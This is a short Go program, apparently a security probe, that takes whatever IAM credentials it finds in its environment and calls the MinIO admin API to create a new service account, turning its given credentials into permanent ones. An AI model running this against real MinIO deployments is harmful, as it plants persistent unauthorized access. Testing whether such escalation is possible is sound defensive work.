// Escalate is a program that tries to make itself permanent credentials out of those that it was given.
//
//	escalate ENDPOINT
package main

import (
	"context"
	"fmt"
	"os"
	"strings"

	"github.com/minio/madmin-go/v3"
	"github.com/minio/minio-go/v7/pkg/credentials"
)

func main() {
	made, err := escalate(os.Args[1])
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	fmt.Println("made", made)
}

func escalate(endpoint string) (string, error) {
	admin, err := madmin.NewWithOptions(strings.TrimPrefix(endpoint, "http://"), &madmin.Options{Creds: credentials.NewIAM("")})
	if err != nil {
		return "", err
	}
	made, err := admin.AddServiceAccount(context.Background(), madmin.AddServiceAccountReq{})
	return made.AccessKey, err
}
